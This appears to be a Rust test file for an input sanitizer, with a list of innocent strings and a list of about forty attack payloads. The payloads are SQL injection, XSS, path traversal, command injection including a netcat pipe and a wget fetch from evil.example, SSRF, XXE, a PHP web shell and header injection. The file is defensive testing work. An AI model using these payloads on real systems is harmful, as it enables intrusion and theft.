#![allow(clippy::unwrap_used, reason = "a test that fails should stop there")]

use proptest::prelude::*;

use super::*;

fn of(text: &str) -> String {
    sanitize(&Inspector::default(), text, Channel::Param).text
}

/// Names, sentences and lines of code that people send.
const INNOCENT: [&str; 50] = [
    "",
    " ",
    "O'Brien & Sons; Ltd",
    "R&D budget",
    "C# developer",
    "Please select a colour",
    "rock 'n' roll or jazz",
    "a union of workers selected their speaker",
    "5' 11\" and 6' 2\"",
    "order by Friday, or by Monday at the latest",
    "drop the table off at 5; insert coins",
    "a < b && c > d",
    "I <3 you",
    "Vec<String> is a list of strings",
    "<b>bold</b> and <i>not</i>",
    "once = 1, online = true",
    "JavaScript: the good parts",
    "fish & chips; salt & vinegar",
    "cats; dogs; more cats",
    "Find the sort of thing you like; date it",
    "and so on... / or not",
    "v1.2..v1.3",
    "a/b/c.txt",
    "wait...what",
    "docs/guide.md",
    "{{ name }}",
    "50% off {today}",
    "https://example.com/page?a=b&c=d#e",
    "10:30 at 127 Main St",
    "costs $5",
    "array[0]=1",
    "(see below)",
    "5 * (3 + 2) = 25",
    "D'Angelo",
    "Sinéad O'Connor",
    "Zoë Müller, 東京",
    "jo.smith+shop@example.com",
    "+49 (0) 30 1234-567",
    "3.14159e-10",
    "2026-11-22T10:30:00Z",
    "7b0c6a52-33a1-4d52-9f0e-0a6a8c1b2f3d",
    "let total = price - discount;",
    "fn main() { println!(\"hello\"); }",
    "if x == 1 and y != 2:",
    "for i in range(10): print(i)",
    "#include the annex",
    "100% cotton, 30°C wash",
    "The update of the table is set for Monday.",
    "Who? What? Where!",
    "line one\nline two",
];

#[test]
fn what_is_no_attack_comes_back_byte_for_byte() {
    for text in INNOCENT {
        let done = sanitize(&Inspector::default(), text, Channel::Param);
        assert_eq!(done, Sanitized { text: text.to_owned(), changed: false, kinds: vec![] });
    }
}

#[test]
fn what_is_around_an_attack_stays() {
    for (text, expected) in [
        ("../../secret", "secret"),
        ("..%252f..%252fsecret/a.txt", "secret/a.txt"),
        ("{{8*8}}", "8*8"),
        ("Dear team, <script>go()</script> see you at 5", "Dear team, go() see you at 5"),
        ("Hello <svg onload=go()>Ann, it's O'Brien", "Hello Ann, it's O'Brien"),
        ("photo.png; cat /etc/hosts", "photo.png cat /etc/hosts"),
        ("http://127.0.0.1/admin", "127.0.0.1/admin"),
        ("joe\r\nBcc: all@evil.example", "joe Bcc: all@evil.example"),
        ("{\"$ne\": null}", "{ne: null}"),
    ] {
        assert_eq!(of(text), expected, "{text}");
    }
}

/// Attacks, some of which are made so that taking something out makes another.
const ATTACKS: [&str; 40] = [
    "1' or '1'='1",
    "9 UNION ALL SELECT name, pass FROM staff",
    "UNI/**/ON SEL/**/ECT",
    "9 UNI/**/ON SEL/**/ECT 1,2",
    "1 UNUNIONION SELSELECTECT 1,2",
    "lee'; DROP TABLE bills; --",
    "<scr<script>ipt>go()</scr</script>ipt>",
    "<<script>script>go()<</script>/script>",
    "<svg/onload=go()>",
    "java<b>script:go()",
    "javajavascript:script:go()",
    "\" autofocus onfocus=go() x=\"",
    "....//....//secret",
    "..././..././secret",
    ".%2e/%2e./secret",
    "..%c0%af..%c0%afsecret",
    "%25252e%25252e%25252fsecret",
    "$(wh$(x)oami)",
    "a;;cat /etc/hosts",
    "x | nc 10.9.8.7 4444",
    "`id`",
    "x\nwget http://evil.example/a",
    "{{{{8*8}}}}",
    "$${8*8}",
    "<%= 8*8 %>",
    "http://http://127.0.0.1/",
    "http://2130706433/",
    "gopher://m.example:25/_x",
    "{\"$$ne\": {\"$ne\": 1}}",
    "*)(uid=*",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>",
    "<!--#exec cmd=\"id\" -->",
    "' or count(/*)=1 or 'a'='b",
    "<?php system($_GET[1]); ?>",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    "en\r\nSet-Cookie: a=b",
    "PHNjcmlwdD5nbygpPC9zY3JpcHQ+",
    "&#x3c;script&#x3e;go()",
    "\\u003cscript\\u003ego()",
    "%3Cscript%3Ego()%3C/script%3E",
];

/// What holds of every value.
fn holds(text: &str, channel: Channel) -> String {
    let inspector = Inspector::default();
    let done = sanitize(&inspector, text, channel);
    let again = inspector.inspect(&done.text, channel);
    assert_eq!(again.verdict, "clean", "{text:?} became {:?}", done.text);
    assert_eq!(done.changed, done.text != text || !done.kinds.is_empty());
    let twice = sanitize(&inspector, &done.text, channel);
    assert_eq!((twice.text.as_str(), twice.changed), (done.text.as_str(), false));
    done.text
}

#[test]
fn nothing_that_is_left_is_an_attack() {
    for text in ATTACKS {
        for channel in
            [Channel::Param, Channel::Text, Channel::Tool, Channel::Path, Channel::Header]
        {
            holds(text, channel);
        }
        let found = Inspector::default().inspect(text, Channel::Param);
        let done = sanitize(&Inspector::default(), text, Channel::Param);
        assert_eq!(done.kinds, found.kinds, "{text}");
    }
}

#[test]
fn an_innocent_sentence_survives_the_attack_in_it() {
    let mut lost = Vec::new();
    for attack in ATTACKS {
        let text = format!("Our meeting is on Monday, {attack} and Ann brings the cake.");
        let left = holds(&text, Channel::Text);
        for part in ["Our meeting is on Monday", "brings the cake"] {
            if !left.contains(part) {
                lost.push(format!("{attack}: {left}"));
            }
        }
    }
    assert!(lost.is_empty(), "{}", lost.join("\n"));
}

#[test]
fn what_is_too_long_is_cut_where_reading_ends() {
    let text = "abc ".repeat(LENGTH_MAX / 4 + 10);
    let done = sanitize(&Inspector::default(), &text, Channel::Text);
    assert_eq!((done.text.len(), done.kinds), (LENGTH_MAX, vec!["unread"]));
}

/// A step looks at each byte so often and no more: sixteen times as much takes about sixteen
/// times as long, and here is room for four times that.
#[test]
fn what_is_written_to_keep_it_busy_does_not() {
    let clock = flow::Clock::system();
    let took = |text: &str| {
        let begun = clock.moment();
        holds(text, Channel::Param);
        clock.moment().since(begun).as_secs_f64()
    };
    for part in
        ["<", "<a ", "' or ", "../", "{{", "$(", "&#60;", "%3c", "\"", "://", "<scr", "a'b;"]
    {
        let of = |length: usize| took(&part.repeat(length / part.len()));
        let (small, large) = (of(8 << 10), of(128 << 10));
        assert!(large < small * 64.0 + 0.5, "{part}: {small} s, then {large} s");
    }
}

proptest! {
    #[test]
    fn whatever_comes_is_clean_afterwards(text in "\\PC{0,120}") {
        holds(&text, Channel::Param);
    }

    #[test]
    fn whatever_is_spliced_together_is_clean_afterwards(
        parts in prop::collection::vec(prop::sample::select(
            ATTACKS.iter().chain(&INNOCENT).copied().collect::<Vec<_>>()
        ), 1..6),
        cut in 0usize..200,
        channel in prop::sample::select(vec![Channel::Param, Channel::Text, Channel::Path]),
    ) {
        let text = parts.concat();
        let cut = text.floor_char_boundary(cut.min(text.len()));
        holds(&text, channel);
        let (one, two) = text.split_at(cut);
        holds(&format!("{two}{one}"), channel);
    }
}
